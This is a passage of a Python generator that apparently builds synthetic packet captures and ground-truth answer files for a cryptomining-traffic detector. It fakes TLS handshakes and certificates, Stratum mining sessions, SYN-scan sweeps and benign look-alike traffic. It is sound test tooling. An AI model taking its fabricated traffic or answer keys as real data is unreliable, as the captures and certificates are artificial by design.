           f"Origin: http://{host}\r\n\r\n").encode()
    resp = (f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Accept: {accept}\r\n\r\n").encode()
    msgs = [Msg(t0, 0, req), Msg(t0 + 0.01, 1, resp)]

    def c(obj: dict[str, Any]) -> bytes:
        return ws_frame(jdump(obj).encode(), bytes.fromhex(hx(rng, 4)))

    def s(obj: dict[str, Any]) -> bytes:
        return ws_frame(jdump(obj).encode(), None)

    t = t0 + 0.02
    msgs.append(Msg(t, 0, c({"msg": "connect", "version": "1", "support": ["1", "pre2", "pre1"]})))
    msgs.append(Msg(t + 0.01, 1, s({"server_id": "0"}) + s({"msg": "connected", "session": hx(rng, 8)})))
    t += 0.05
    msgs.append(Msg(t, 0, c({"msg": "method", "method": "login", "params": [{"resume": hx(rng, 20)}], "id": "1"})))
    uid = hx(rng, 8)
    msgs.append(Msg(t + 0.02, 1, s({"msg": "result", "id": "1", "result": {"id": uid, "token": hx(rng, 20),
                                                                             "tokenExpires": {"$date": 1676300000000}, "type": "resume"}})))
    t += 0.05
    msgs.append(Msg(t, 0, c({"msg": "sub", "id": hx(rng, 8), "name": "stream-room-messages", "params": ["GENERAL", False]})))
    users = ["alice", "bob", "carol", "dmitri", "eve"]
    texts = ["lunch at 12?", "build is green again", "who has the projector key", "meeting moved to 3pm",
             "PR #1182 needs a review", "coffee machine fixed", "can someone restart the printer",
             "deploy done", "thanks!", "ok"]
    mid = 2
    next_ping = t + 25
    while t < t1:
        t += rng.uniform(8, 70)
        if t >= t1:
            break
        while next_ping < t:
            msgs.append(Msg(next_ping, 1, s({"msg": "ping"})))
            msgs.append(Msg(next_ping + 0.02, 0, c({"msg": "pong"})))
            next_ping += 25
        if rng.random() < 0.35:
            mid += 1
            msgs.append(Msg(t, 0, c({"msg": "method", "method": "sendMessage", "id": str(mid), "params": [
                {"_id": hx(rng, 8), "rid": "GENERAL", "msg": rng.choice(texts)}]})))
            result = {"_id": hx(rng, 8), "ts": {"$date": 1668520800000}}
            msgs.append(Msg(t + 0.03, 1, s({"msg": "result", "id": str(mid), "result": result})))
        else:
            msgs.append(Msg(t, 1, s({"msg": "changed", "collection": "stream-room-messages", "id": "id", "fields": {
                "eventName": "GENERAL", "args": [{"_id": hx(rng, 8), "rid": "GENERAL", "msg": rng.choice(texts),
                                                  "u": {"_id": hx(rng, 8), "username": rng.choice(users)}}]}})))
    return msgs


# ----------------------------------------------------------------------------------------------
# X.509 certificates in DER: just enough structure for tshark and minesweep's DER walker
# (RFC 5280 §4.1; nothing is signed: keys and signatures are random bytes of the right size)

OID_NAMES = {"C": "2.5.4.6", "ST": "2.5.4.8", "L": "2.5.4.7", "O": "2.5.4.10", "OU": "2.5.4.11", "CN": "2.5.4.3"}


def der(tag: int, content: bytes) -> bytes:
    n = len(content)
    if n < 0x80:
        return bytes([tag, n]) + content
    ln = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(ln)]) + ln + content


def der_seq(*items: bytes) -> bytes:
    return der(0x30, b"".join(items))


def der_oid(dotted: str) -> bytes:
    parts = [int(p) for p in dotted.split(".")]
    out = bytearray([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        enc = [p & 0x7F]
        p >>= 7
        while p:
            enc.append(0x80 | (p & 0x7F))
            p >>= 7
        out += bytes(reversed(enc))
    return der(0x06, bytes(out))


def der_uint(value: bytes) -> bytes:
    value = value.lstrip(b"\0") or b"\0"
    return der(0x02, (b"\0" if value[0] & 0x80 else b"") + value)


def der_time(ts: int) -> bytes:
    return der(0x17, time.strftime("%y%m%d%H%M%SZ", time.gmtime(ts)).encode())


def x509_name(rdns: list[tuple[str, str]]) -> bytes:
    return der_seq(*[der(0x31, der_seq(der_oid(OID_NAMES[k]), der(0x13 if k == "C" else 0x0C, v.encode())))
                     for k, v in rdns])


def x509_cert(rng: random.Random, subject: list[tuple[str, str]], issuer: list[tuple[str, str]], not_before: int,
              not_after: int, san: list[str], ca: bool = False) -> bytes:
    """A v3 certificate with an RSA-2048 key, signed (in form only) with sha256WithRSAEncryption."""
    sig_alg = der_seq(der_oid("1.2.840.113549.1.1.11"), der(0x05, b""))
    modulus = bytes([0x80 | rng.getrandbits(7)]) + rng.getrandbits(255 * 8).to_bytes(255, "big")
    spki = der_seq(der_seq(der_oid("1.2.840.113549.1.1.1"), der(0x05, b"")),
                   der(0x03, b"\0" + der_seq(der_uint(modulus), der_uint((65537).to_bytes(3, "big")))))
    true = der(0x01, b"\xff")
    exts = [
        der_seq(der_oid("2.5.29.15"), true, der(0x04, der(0x03, b"\x01\x86" if ca else b"\x05\xa0"))),
        der_seq(der_oid("2.5.29.19"), true, der(0x04, der_seq(true, der_uint(b"\0")) if ca else der_seq())),
        der_seq(der_oid("2.5.29.14"), der(0x04, der(0x04, rng.getrandbits(160).to_bytes(20, "big")))),
    ]
    if not ca:
        exts.insert(1, der_seq(der_oid("2.5.29.37"), der(0x04, der_seq(der_oid("1.3.6.1.5.5.7.3.1"),
                                                                      der_oid("1.3.6.1.5.5.7.3.2")))))
        exts.append(der_seq(der_oid("2.5.29.17"), der(0x04, der_seq(*[der(0x82, n.encode()) for n in san]))))
    serial = bytes([rng.getrandbits(7) | 0x01]) + rng.getrandbits(15 * 8).to_bytes(15, "big")
    tbs = der_seq(der(0xA0, der_uint(b"\x02")), der_uint(serial), sig_alg, x509_name(issuer),
                  der_seq(der_time(not_before), der_time(not_after)), x509_name(subject), spki,
                  der(0xA3, der_seq(*exts)))
    return der_seq(tbs, sig_alg, der(0x03, b"\0" + rng.getrandbits(2048).to_bytes(256, "big")))


LE_R3 = [("C", "US"), ("O", "Let's Encrypt"), ("CN", "R3")]
ISRG_X1 = [("C", "US"), ("O", "Internet Security Research Group"), ("CN", "ISRG Root X1")]
DIGICERT_CA1 = [("C", "US"), ("O", "DigiCert Inc"), ("CN", "DigiCert TLS RSA SHA256 2020 CA1")]
DIGICERT_ROOT = [("C", "US"), ("O", "DigiCert Inc"), ("OU", "www.digicert.com"), ("CN", "DigiCert Global Root CA")]


def cert_chain(rng: random.Random, name: str, san: list[str], ca: str, now: int) -> list[bytes]:
    """Leaf for ``name`` plus its intermediate: Let's Encrypt R3 (90 days) or DigiCert (one year)."""
    if ca == "letsencrypt":
        leaf = x509_cert(rng, [("CN", name)], LE_R3, now - 30 * 86400, now + 60 * 86400, san)
        inter = x509_cert(rng, LE_R3, ISRG_X1, epoch(2020, 9, 4, 0, 0, 0), epoch(2025, 9, 15, 16, 0, 0), [], ca=True)
    else:
        leaf = x509_cert(rng, [("C", "US"), ("ST", "California"), ("L", "Los Angeles"),
                               ("O", "Internet Corporation for Assigned Names and Numbers"), ("CN", name)],
                         DIGICERT_CA1, now - 200 * 86400, now + 165 * 86400, san)
        inter = x509_cert(rng, DIGICERT_CA1, DIGICERT_ROOT, epoch(2021, 4, 14, 0, 0, 0), epoch(2031, 4, 13, 23, 59, 59),
                          [], ca=True)
    return [leaf, inter]


# ----------------------------------------------------------------------------------------------
# TLS 1.2 / 1.3 on the wire (RFC 5246, RFC 8446): handshakes with real structure, then opaque
# application-data records whose sizes follow the plaintext they stand for

TLS12_GCM_OVERHEAD = 8 + 16  # explicit nonce + GCM tag (RFC 5288 §3)
TLS13_OVERHEAD = 1 + 16  # inner content type + AEAD tag (RFC 8446 §5.2)
MAX_FRAGMENT = 16384

# ClientHello profiles (cipher suites and extension order as the named TLS stacks send them)
OPENSSL_CIPHERS = [0x1302, 0x1303, 0x1301, 0xC02C, 0xC030, 0x009F, 0xCCA9, 0xCCA8, 0xCCAA, 0xC02B, 0xC02F,
                   0x009E, 0xC024, 0xC028, 0x006B, 0xC023, 0xC027, 0x0067, 0xC00A, 0xC014, 0x0039, 0xC009,
                   0xC013, 0x0033, 0x009D, 0x009C, 0x003D, 0x003C, 0x0035, 0x002F, 0x00FF]
OPENSSL_EXTS = [0, 11, 10, 35, 22, 23, 13, 43, 45, 51]
PYTHON_EXTS = [0, 11, 10, 35, 16, 22, 23, 13, 43, 45, 51, 21]  # urllib3 sets ALPN http/1.1; OpenSSL pads to 512
FIREFOX_CIPHERS = [0x1301, 0x1303, 0x1302, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8, 0xC02C, 0xC030, 0xC00A, 0xC009,
                   0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035]
FIREFOX_EXTS = [0, 23, 65281, 10, 11, 35, 16, 5, 51, 43, 13, 45, 28, 21]
SIGALGS = [0x0403, 0x0503, 0x0603, 0x0807, 0x0808, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601]


def tls_record(ctype: int, body: bytes, version: int = 0x0303) -> bytes:
    out = b""
    for i in range(0, max(len(body), 1), MAX_FRAGMENT):
        chunk = body[i : i + MAX_FRAGMENT]
        out += struct.pack(">BHH", ctype, version, len(chunk)) + chunk
    return out


def tls_hs(msg_type: int, body: bytes) -> bytes:
    return bytes([msg_type]) + len(body).to_bytes(3, "big") + body


def rand_bytes(rng: random.Random, n: int) -> bytes:
    return rng.getrandbits(8 * n).to_bytes(n, "big") if n else b""


def client_hello(rng: random.Random, sni: str | None, ciphers: list[int], ext_order: list[int],
                 alpn: list[str] | None = None, tls13: bool = True, pad_to: int = 512) -> bytes:
    """A ClientHello record; extensions in ``ext_order`` (unknown codes are skipped)."""
    key = rand_bytes(rng, 32)
    exts: dict[int, bytes] = {
        11: b"\x03\x00\x01\x02",
        10: struct.pack(">H", 10) + struct.pack(">5H", 0x001D, 0x0017, 0x001E, 0x0019, 0x0018),
        35: b"", 22: b"", 23: b"", 65281: b"\x00",
        13: struct.pack(">H", 2 * len(SIGALGS)) + b"".join(struct.pack(">H", a) for a in SIGALGS),
        5: b"\x01\x00\x00\x00\x00",
        28: b"\x40\x01",
    }
    if sni is not None:
        name = sni.encode()
        exts[0] = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    if alpn:
        lst = b"".join(bytes([len(p)]) + p.encode() for p in alpn)
        exts[16] = struct.pack(">H", len(lst)) + lst
    if tls13:
        exts[43] = b"\x04\x03\x04\x03\x03"
        exts[45] = b"\x01\x01"
        exts[51] = struct.pack(">HHH", 36, 0x001D, 32) + key
    body_exts = b"".join(struct.pack(">HH", c, len(exts[c])) + exts[c] for c in ext_order if c in exts and c != 21)
    head = (struct.pack(">H", 0x0303) + rand_bytes(rng, 32) + b"\x20" + rand_bytes(rng, 32)
            + struct.pack(">H", 2 * len(ciphers)) + b"".join(struct.pack(">H", c) for c in ciphers) + b"\x01\x00")
    if 21 in ext_order:  # RFC 7685 padding up to pad_to bytes of handshake message
        cur = 4 + len(head) + 2 + len(body_exts)
        if cur + 4 < pad_to:
            body_exts += struct.pack(">HH", 21, pad_to - cur - 4) + b"\0" * (pad_to - cur - 4)
    hs = tls_hs(1, head + struct.pack(">H", len(body_exts)) + body_exts)
    return tls_record(22, hs, 0x0301)


def server_flight12(rng: random.Random, chain: list[bytes], cipher: int = 0xC030) -> bytes:
    """TLS 1.2 ServerHello, Certificate, ServerKeyExchange (ECDHE x25519, RSA-PSS) and ServerHelloDone."""
    exts = struct.pack(">HHB", 0xFF01, 1, 0) + struct.pack(">HHBB", 11, 2, 1, 0) + struct.pack(">HH", 23, 0)
    sh = tls_hs(2, struct.pack(">H", 0x0303) + rand_bytes(rng, 32) + b"\x20" + rand_bytes(rng, 32)
                + struct.pack(">HB", cipher, 0) + struct.pack(">H", len(exts)) + exts)
    certs = b"".join(len(c).to_bytes(3, "big") + c for c in chain)
    cert = tls_hs(11, len(certs).to_bytes(3, "big") + certs)
    ske = tls_hs(12, b"\x03\x00\x1d\x20" + rand_bytes(rng, 32) + struct.pack(">HH", 0x0804, 256) + rand_bytes(rng, 256))
    return tls_record(22, sh + cert + ske + tls_hs(14, b""))


def client_finish12(rng: random.Random) -> bytes:
    return (tls_record(22, tls_hs(16, b"\x20" + rand_bytes(rng, 32))) + tls_record(20, b"\x01")
            + tls_record(22, rand_bytes(rng, 16 + TLS12_GCM_OVERHEAD)))


def server_finish12(rng: random.Random) -> bytes:
    return tls_record(20, b"\x01") + tls_record(22, rand_bytes(rng, 16 + TLS12_GCM_OVERHEAD))


def server_flight13(rng: random.Random, cert_bytes: int, cipher: int = 0x1302) -> bytes:
    """TLS 1.3 ServerHello + middlebox-compat ChangeCipherSpec + one record of encrypted handshake."""
    exts = struct.pack(">HHH", 43, 2, 0x0304) + struct.pack(">HHHH", 51, 36, 0x001D, 32) + rand_bytes(rng, 32)
    sh = tls_hs(2, struct.pack(">H", 0x0303) + rand_bytes(rng, 32) + b"\x20" + rand_bytes(rng, 32)
                + struct.pack(">HB", cipher, 0) + struct.pack(">H", len(exts)) + exts)
    inner = 10 + cert_bytes + 264 + 52  # EncryptedExtensions, Certificate, CertificateVerify, Finished
    return tls_record(22, sh) + tls_record(20, b"\x01") + tls_record(23, rand_bytes(rng, inner + TLS13_OVERHEAD))


def client_finish13(rng: random.Random) -> bytes:
    return tls_record(20, b"\x01") + tls_record(23, rand_bytes(rng, 52 + TLS13_OVERHEAD))


def tls_appdata_for(rng: random.Random, n: int, tls13: bool) -> bytes:
    """Application-data record(s) carrying ``n`` plaintext bytes (AES-GCM)."""
    out = b""
    while n > 0:
        k = min(n, MAX_FRAGMENT)
        out += tls_record(23, rand_bytes(rng, k + (TLS13_OVERHEAD if tls13 else TLS12_GCM_OVERHEAD)))
        n -= k
    return out


def tls_session(rng: random.Random, t: float, rtt: float, hello: bytes, tls13: bool, chain: list[bytes] | None = None,
                cert_bytes: int = 2600, tickets: int = 0) -> tuple[list[Msg], float]:
    """Handshake messages from ``t``; returns them and the time the client may send application data."""
    msgs = [Msg(t, 0, hello)]
    t += rtt + rng.uniform(0.002, 0.006)
    if tls13:
        msgs.append(Msg(t, 1, server_flight13(rng, cert_bytes)))
        t += rng.uniform(0.002, 0.004)
        msgs.append(Msg(t, 0, client_finish13(rng)))
        for i in range(tickets):  # NewSessionTicket records after the client's Finished arrives
            msgs.append(Msg(t + rtt + 0.001 + 0.0005 * i, 1, tls_record(23, rand_bytes(rng, 233 + TLS13_OVERHEAD))))
        return msgs, t + 0.003
    msgs.append(Msg(t, 1, server_flight12(rng, chain or [])))
    t += rng.uniform(0.002, 0.004)
    msgs.append(Msg(t, 0, client_finish12(rng)))
    t += rtt + rng.uniform(0.001, 0.003)
    msgs.append(Msg(t, 1, server_finish12(rng)))
    return msgs, t + 0.003


def tls_wrap(rng: random.Random, msgs: list[Msg], tls13: bool) -> list[Msg]:
    """Replace each plaintext write by the TLS record(s) that would carry it (same time, side, tag)."""
    return [Msg(m.t, m.side, tls_appdata_for(rng, len(m.data), tls13), tag=m.tag) for m in msgs]


# ----------------------------------------------------------------------------------------------
# Stratum V2 (github.com/stratum-mining/sv2-spec): Noise NX handshake then encrypted frames, sized as
# in detector/dialects/sv2.py's docstring (64-byte act 1, 234-byte act 2, frame = 22 + payload + 16)

SV2_ACT1, SV2_ACT2 = 64, 234


def sv2_frame(rng: random.Random, payload_len: int) -> bytes:
    return rand_bytes(rng, 22 + (payload_len + 16 if payload_len else 0))


def str0(s: str) -> int:
    return 1 + len(s.encode())


def sim_sv2(
    rng: random.Random, *, start: float, end: float, hashrate: float, share_interval: float, user: str,
    endpoint: tuple[str, int], device: tuple[str, str, str], rtt: float,
) -> tuple[list[Msg], SessionLog]:
    """A Stratum V2 standard-channel miner; every write is ciphertext of the right size."""
    msgs: list[Msg] = []
    log = SessionLog()
    C, S = 0, 1
    msgs.append(Msg(start, C, rand_bytes(rng, SV2_ACT1)))
    tr = respond_time(rng, start, rtt)
    msgs.append(Msg(tr, S, rand_bytes(rng, SV2_ACT2)))
    t = tr + 0.002
    vendor, hw, fw = device
    setup = 1 + 2 + 2 + 4 + str0(endpoint[0]) + 2 + str0(vendor) + str0(hw) + str0(fw) + str0("")  # §3.6.1
    msgs.append(Msg(t, C, sv2_frame(rng, setup)))
    log.extra["sv2_setup_connection_bytes"] = 22 + setup + 16
    tr = respond_time(rng, t, rtt)
    msgs.append(Msg(tr, S, sv2_frame(rng, 6)))  # SetupConnection.Success: used_version U16, flags U32
    t = tr + 0.002
    msgs.append(Msg(t, C, sv2_frame(rng, 4 + str0(user) + 4 + 32)))  # OpenStandardMiningChannel
    tr = respond_time(rng, t, rtt)
    work = float(2 ** round(math.log2(hashrate * share_interval)))
    target = (1 << 256) // int(work)
    log.diff_change(tr, target=f"{target:064x}", work=work_from_target(target), observed=False,
                    message="OpenStandardMiningChannel.Success target (encrypted)")
    # Success (request_id, channel_id, target U256, extranonce_prefix B0_32 of 8, group_channel_id), then a
    # future NewMiningJob (min_ntime empty) and SetNewPrevHash in the same write
    msgs.append(Msg(tr, S, sv2_frame(rng, 4 + 4 + 32 + 9 + 4) + sv2_frame(rng, 4 + 4 + 1 + 4 + 32)
                    + sv2_frame(rng, 4 + 4 + 32 + 4 + 4)))
    tj = tr + rng.uniform(20, 40)
    next_block = tr + rng.expovariate(1 / 600)
    while tj < end:
        if next_block < tj:
            msgs.append(Msg(next_block, S, sv2_frame(rng, 4 + 4 + 1 + 4 + 32) + sv2_frame(rng, 4 + 4 + 32 + 4 + 4)))
            next_block += rng.expovariate(1 / 600)
        else:
            msgs.append(Msg(tj, S, sv2_frame(rng, 4 + 4 + 5 + 4 + 32)))  # NewMiningJob, min_ntime set
            tj += rng.uniform(20, 40)
    shares = poisson_shares(rng, tr + 0.5, end - 2.0, hashrate, [(start, log.difficulty[0]["work_per_share"])])
    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 50))
    for k, (ts, w) in enumerate(shares):
        msgs.append(Msg(ts, C, sv2_frame(rng, 24), tag=k))  # SubmitSharesStandard: six U32
        ok = k not in rejects
        # SubmitShares.Success (channel, last seq, count U32, shares sum U64) / .Error (channel, seq, STR0_255)
        msgs.append(Msg(respond_time(rng, ts, rtt), S, sv2_frame(rng, 20 if ok else 4 + 4 + str0("stale-share"))))
        log.shares.append((ts, w, ok))
    return msgs, log


# ----------------------------------------------------------------------------------------------
# raw packets outside a connection: SYN scans and the answers they provoke


def raw_tcp(cap: Capture, base_ns: int, iface: int, link: LinkFn, t: float, side: int, src: Host, dst: Host,
            sport: int, dport: int, flags: str, seq: int, ack: int = 0, window: int | None = None,
            syn_opts: bool = False) -> None:
    tcp = TCP(sport=sport, dport=dport, seq=seq & M32, ack=ack & M32, flags=flags,
              window=src.window if window is None else window, options=Flow.SYN_OPTS if syn_opts else [])
    v6 = ":" in src.ip
    if v6:
        p: Packet = IPv6(src=src.ip, dst=dst.ip, hlim=src.ttl, fl=0) / tcp
    else:
        df = "DF" if "S" in flags and "A" in flags else 0  # only the answering stack sets DF
        p = IP(src=src.ip, dst=dst.ip, id=src.next_id(), ttl=src.ttl, flags=df) / tcp
    b = bytes(p)
    cap.add(base_ns + round(t * NS), iface, link(side, b, v6) + b)


def syn_scan(cap: Capture, base_ns: int, iface: int, link_for: Callable[[str], LinkFn], rng: random.Random,
             scanner: Host, sport: int, targets: list[tuple[str, int]], t0: float, pps: float,
             open_ports: dict[tuple[str, int], Host], live: dict[str, Host], rtt: float) -> dict[str, Any]:
    """A masscan-style SYN sweep (window 1024, no options, one source port, the scanner's own RST for
    every SYN-ACK); open ports answer SYN-ACK, closed ports of live hosts RST-ACK, others stay silent.

    ``link_for(target_ip)`` gives the link layer with side 0 = scanner -> target.
    """
    t = t0
    first = last = None
    for ip, port in targets:
        t += rng.expovariate(pps)
        seq = rng.getrandbits(32)
        link = link_for(ip)
        target = open_ports.get((ip, port)) or live.get(ip) or Host(ip, 64, 0, 0)
        raw_tcp(cap, base_ns, iface, link, t, 0, scanner, target, sport, port, "S", seq, window=1024)
        first = t if first is None else first
        last = t
        if (ip, port) in open_ports:
            raw_tcp(cap, base_ns, iface, link, t + rtt, 1, target, scanner, port, sport, "SA", rng.getrandbits(32),
                    seq + 1, syn_opts=True)
            raw_tcp(cap, base_ns, iface, link, t + rtt + 0.0003, 0, scanner, target, sport, port, "R", seq + 1, window=0)
            last = t + rtt + 0.0003
        elif ip in live:
            raw_tcp(cap, base_ns, iface, link, t + rtt, 1, target, scanner, port, sport, "RA", 0, seq + 1, window=0)
            last = t + rtt
    ports = sorted({p for _, p in targets})
    return {"scanner": scanner.ip, "source_port": sport, "syns": len(targets),
            "distinct_addresses": len({ip for ip, _ in targets}), "ports": ports,
            "open": sorted([list(k) for k in open_ports if k in set(targets)]),
            "first_ts": (base_ns + round((first or t0) * NS)) / NS, "last_ts": (base_ns + round((last or t0) * NS)) / NS}


# ----------------------------------------------------------------------------------------------
# plain HTTP pieces for the campus: an exploit, downloads, redirects, JSON-RPC that is not mining


def http_date(ts: float) -> str:
    return email.utils.formatdate(ts, usegmt=True)


def http_get(path: str, host: str, agent: str, extra: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n{extra}\r\n".encode()


def http_response(status: str, ts: float, ctype: str, body: bytes, server: str, version: str = "HTTP/1.1",
                  extra: str = "") -> bytes:
    return (f"{version} {status}\r\nServer: {server}\r\nDate: {http_date(ts)}\r\nContent-type: {ctype}\r\n"
            f"Content-Length: {len(body)}\r\n{extra}\r\n").encode() + body


def elf_body(rng: random.Random, size: int) -> bytes:
    """An x86-64 ELF executable header (ET_EXEC, two PT_LOAD) followed by opaque bytes."""
    ehdr = (b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
            + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000 + 0x120, 64, 0, 0, 64, 56, 2, 64, 0, 0))
    ph = b"".join(struct.pack("<IIQQQQQQ", 1, flags, 0, 0x400000, 0x400000, size, size, 0x1000) for flags in (5, 6))
    return ehdr + ph + rand_bytes(rng, size - len(ehdr) - len(ph))


def neg_redirect(t: float, host: str, ts0: int) -> list[Msg]:
    req = (f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:98.0) "
           "Gecko/20100101 Firefox/98.0\r\nAccept: text/html,application/xhtml+xml\r\nConnection: keep-alive\r\n\r\n").encode()
    body = (b"<html>\r\n<head><title>301 Moved Permanently</title></head>\r\n<body>\r\n"
            b"<center><h1>301 Moved Permanently</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n")
    resp = http_response("301 Moved Permanently", ts0 + t, "text/html", body, "nginx",
                         extra=f"Connection: keep-alive\r\nLocation: https://{host}/\r\n")
    return [Msg(t, 0, req), Msg(t + 0.004, 1, resp)]


def neg_electrum(rng: random.Random, t0: float, t1: float, rtt: float) -> list[Msg]:
    """An Electrum wallet on an ElectrumX server (line-delimited JSON-RPC 2.0 over TCP, with
    subscriptions and server notifications): the stratum look-alike that is not mining."""
    msgs: list[Msg] = []
    rid = 0

    def call(t: float, method: str, params: list[Any], result: Any) -> float:
        nonlocal rid
        msgs.append(Msg(t, 0, line({"jsonrpc": "2.0", "method": method, "params": params, "id": rid})))
        tr = respond_time(rng, t, rtt)
        msgs.append(Msg(tr, 1, line({"jsonrpc": "2.0", "result": result, "id": rid})))
        rid += 1
        return tr + 0.003

    height = 727300 + rng.randrange(50)
    t = call(t0, "server.version", ["electrum/4.1.5", "1.4"], ["ElectrumX 1.16.0", "1.4"])
    t = call(t, "blockchain.headers.subscribe", [], {"hex": hx(rng, 80), "height": height})
    t = call(t, "server.banner", [], "Welcome to ElectrumX")
    for _ in range(6):
        t = call(t, "blockchain.scripthash.subscribe", [hx(rng, 32)], hx(rng, 32) if rng.random() < 0.5 else None)
    next_ping = t + 60
    tb = t + rng.expovariate(1 / 600)
    while True:
        if tb < next_ping:
            if tb >= t1:
                break
            height += 1
            msgs.append(Msg(tb, 1, line({"jsonrpc": "2.0", "method": "blockchain.headers.subscribe",
                                         "params": [{"hex": hx(rng, 80), "height": height}]})))
            tb += rng.expovariate(1 / 600)
        else:
            if next_ping >= t1:
                break
            call(next_ping, "server.ping", [], None)
            next_ping += 60
    return msgs


def neg_https_visits(rng: random.Random, t: float, sni: str, rtt: float, pages: int) -> list[Msg]:
    """A browser on an HTTPS site (TLS 1.3): a few request/response exchanges, then idle close."""
    msgs, t = tls_session(rng, t, rtt, client_hello(rng, sni, FIREFOX_CIPHERS, FIREFOX_EXTS, ["h2", "http/1.1"]),
                          True, cert_bytes=rng.randrange(2400, 4200), tickets=2)
    t += rtt + 0.01
    for _ in range(pages):
        msgs.append(Msg(t, 0, tls_appdata_for(rng, rng.randrange(300, 700), True)))
        t += rtt + rng.uniform(0.01, 0.08)
        msgs.append(Msg(t, 1, tls_appdata_for(rng, rng.randrange(1500, 9000), True)))
        t += rng.uniform(1.5, 12)
    return msgs


# ----------------------------------------------------------------------------------------------
# the files


class FileBuilder:
    """Collects flows, sessions and negatives for one capture file."""

    def __init__(self, cap: Capture, base: int, description: str, features: list[str]) -> None:
        self.cap = cap
        self.base_ns = base * NS
        self.epoch0 = base
        self.description = description
        self.features = features
        self.sessions: list[dict[str, Any]] = []
        self.negatives: list[dict[str, Any]] = []
        self.sections: dict[str, Any] = {}  # top-level truth.json sections this file adds
        self.extra_files: dict[str, bytes] = {}  # files written next to the capture

    def flow(self, iface: int, link: LinkFn, client: Host, cport: int, server: Host, sport: int,
             rng: random.Random, rtt: float, msgs: list[Msg], open_at: float | None, close_at: float | None,
             close_side: int = 0, log: SessionLog | None = None, **kw: Any) -> Flow:
        f = Flow(self.cap, self.base_ns, iface, link, client, cport, server, sport, rng, rtt, **kw)
        msgs = space_msgs(fix_split(msgs))
        f.run(msgs, open_at, close_at, close_side)
        if log is not None:  # share times = capture time of the (first) submit segment
            for m in msgs:
                if m.tag is not None:
                    t_ns = self.cap.quantize(self.base_ns + round(m.t * NS), iface)
                    _, w, ok = log.shares[m.tag]
                    log.shares[m.tag] = ((t_ns - self.base_ns) / NS, w, ok)
        return f

    def negative(self, f: Flow, kind: str, description: str) -> None:
        c, s = f.hosts
        self.negatives.append({"kind": kind, "client": c.ip, "client_port": f.ports[0], "server": s.ip,
                               "server_port": f.ports[1], "proto": "tcp", "description": description,
                               "first_ts": f.first_ts / NS if f.first_ts else None,
                               "last_ts": f.last_ts / NS if f.last_ts else None})

    def truth(self) -> dict[str, Any]:
        return {"description": self.description, "format": self.cap.fmt,
                "endianness": "big" if self.cap.endian == ">" else "little",
                "ts_resolution": "ns" if (self.cap.nano or any(i.tsresol == 9 for i in self.cap.interfaces)) else "us",
                "gzip": self.cap.gz,
                "interfaces": [{"linktype": i.linktype, "name": i.name, "tsresol": i.tsresol} for i in self.cap.interfaces],
                "packets": len(self.cap.records), "features": self.features,
                "sessions": self.sessions, "negatives": self.negatives}


def file_stratum_vlan() -> FileBuilder:
    cap = Capture("stratum-btc-ltc-vlan.pcap", "pcap", [Interface(1, "eth0")])
    fb = FileBuilder(cap, epoch(2021, 6, 8, 1, 13, 20),
                     "Antminer S9 (bmminer, SHA-256, version rolling) on VLAN 120 and Antminer L3+ (cgminer, "
                     "scrypt, port 25, CRLF pool) in QinQ 300/31; DNS, web and TLS negatives",
                     ["pcap-le-us", "ethernet", "802.1Q", "QinQ", "dns-before-session", "messages-per-segment",
                      "message-split", "submit-retransmission", "out-of-order", "crlf", "port-25",
                      "mining.configure", "mining.extranonce.subscribe", "difficulty-change"])
    gw = "00:1c:73:1a:2b:3c"
    s9_link = ether_link("00:0e:c6:5f:11:a4", gw, ((0x8100, 120),))
    l3_link = ether_link("b4:10:7b:22:90:7e", gw, ((0x88A8, 300), (0x8100, 31)))
    pc_link = ether_link("3c:52:82:0b:77:e1", gw, ((0x8100, 120),))
    s9 = Host("10.20.30.41", 64, 0x1F00, 502)
    l3 = Host("10.20.31.17", 64, 0x5A10, 229)
    pc = Host("10.20.30.55", 64, 0x3300, 501)
    resolver = Host("10.20.0.53", 64, 0x0100, 0)
    f2 = Host("203.0.113.10", 49, 0x7A00, 229)
    ltc = Host("203.0.113.25", 51, 0x1100, 235)
    web = Host("198.51.100.80", 57, 0x0A00, 509)
    tlss = Host("198.51.100.44", 56, 0x0B00, 1040)
    rng = random.Random(1001)
    b = fb.base_ns
    fb.negatives.append(dns_exchange(cap, b, 0, pc_link, 0.8, pc, resolver, 41022, 0x5C21, "intranet.example.edu", "A", ["198.51.100.80"]))
    fb.negatives.append(dns_exchange(cap, b, 0, s9_link, 1.6, s9, resolver, 38114, 0x1A7E, "btc.f2pool.com", "A", ["203.0.113.10"]))
    # --- Antminer S9, bmminer 2.0.0, 13.5 TH/s
    H = 13.5e12
    start, end = 2.0, 2.0 + 900.0
    msgs, log = sim_stratum_sha(rng, start=start + 0.1, end=end, hashrate=H, diffs=[(0, 16384), (start + 450.0, 32768)],
                                algo="sha256d", agent="bmminer/2.0.0", login="minesweepdemo.s9-041", rtt=0.046,
                                version_rolling=True, reorder_notify_at=7, retx_share_at=23, epoch0=fb.epoch0)
    f = fb.flow(0, s9_link, s9, 51662, f2, 3333, random.Random(11), 0.046, msgs, start, end + 0.5, log=log)
    fb.sessions.append(truth_session(f, log, b, dialect="stratum", coin="BTC", algorithm="sha256d",
                                     worker="s9-041", wallet=None, login="minesweepdemo.s9-041", agent="bmminer/2.0.0",
                                     pool="btc.f2pool.com", pool_evidence=["dns"], true_hashrate=H, unit="H/s",
                                     starts_mid_session=False, line_ending="\n", vlan=[120]))
    # --- Antminer L3+, cgminer 4.9.0, 504 MH/s scrypt, pool on port 25 with CRLF line ends
    H2 = 504e6
    s2, e2 = 31.0, 31.0 + 840.0
    msgs, log = sim_stratum_sha(rng, start=s2 + 0.1, end=e2, hashrate=H2, diffs=[(0, 65536)], algo="scrypt",
